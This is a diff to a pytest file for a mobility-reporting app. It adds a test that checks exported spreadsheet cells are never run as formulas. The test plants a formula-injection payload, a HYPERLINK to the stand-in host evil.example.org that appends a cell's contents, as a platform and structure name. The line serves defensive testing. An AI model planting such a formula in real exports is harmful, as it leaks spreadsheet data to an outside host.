@@ -8,7 +8,7 @@ import pytest
 from openpyxl import load_workbook
 
 from mobility.db import db
-from mobility.models import Action, LiaisonForm
+from mobility.models import Action, LiaisonForm, Platform, Structure
 from mobility.rights import Role
 from tests.house import House
 
@@ -78,3 +78,14 @@ def test_the_command_prints_json(year_2008: House) -> None:
     lost = runner.invoke(args=["report", "year", "2008", "--platform", "nulle-part"])
     assert lost.exit_code == 1
     assert "Aucune plateforme" in lost.output
+
+
+def test_no_name_in_the_spreadsheet_is_ever_run_as_a_formula(year_2008: House) -> None:
+    hostile = '=HYPERLINK("https://evil.example.org/?"&A2;"Bilan")'
+    with year_2008.writing():
+        db.session.get_one(Platform, year_2008.platform_id).name = hostile
+        db.session.get_one(Structure, year_2008.structure_id).name = hostile
+    answer = year_2008.client(Role.MANAGER).get(year_2008.page("report.xlsx?year=2008"))
+    sheet = load_workbook(BytesIO(answer.data)).worksheets[0]
+    assert sheet["A1"].value.startswith(f"'{hostile}")
+    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}, "no formula"
